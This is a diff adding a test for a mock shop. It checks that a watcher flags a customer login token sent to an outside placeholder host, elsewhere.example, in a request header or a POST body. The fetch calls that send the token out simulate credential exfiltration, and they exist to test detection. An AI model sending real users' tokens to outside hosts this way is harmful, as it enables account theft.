@@ -1,0 +1,26 @@
+import { startingTokens } from '@signal-shop/mock-server';
+import { inject } from 'vitest';
+import { expect, test } from '../support/shop-test.ts';
+import { watch } from '../support/watch.ts';
+
+const elsewhere = 'https://elsewhere.example';
+
+test('[T14] every shopper of these tests is watched: a login that another site is told in a header or a body is a complaint', async ({
+  browser,
+}) => {
+  const context = await browser.newContext();
+  await context.route(`${elsewhere}/**`, (route) => route.fulfill({ contentType: 'text/html', body: '' }));
+  const { complaints } = await watch(context, inject('shopUrl'));
+  const page = await context.newPage();
+  await page.goto(elsewhere);
+  await page.evaluate(async (login) => {
+    await fetch('/nothing-told');
+    await fetch('/header', { headers: { authorization: login } });
+    await fetch('/body', { method: 'POST', body: login });
+  }, startingTokens.customer);
+  expect(await complaints()).toEqual([
+    `token told to another site: ${elsewhere}/header`,
+    `token told to another site: ${elsewhere}/body`,
+  ]);
+  await context.close();
+});
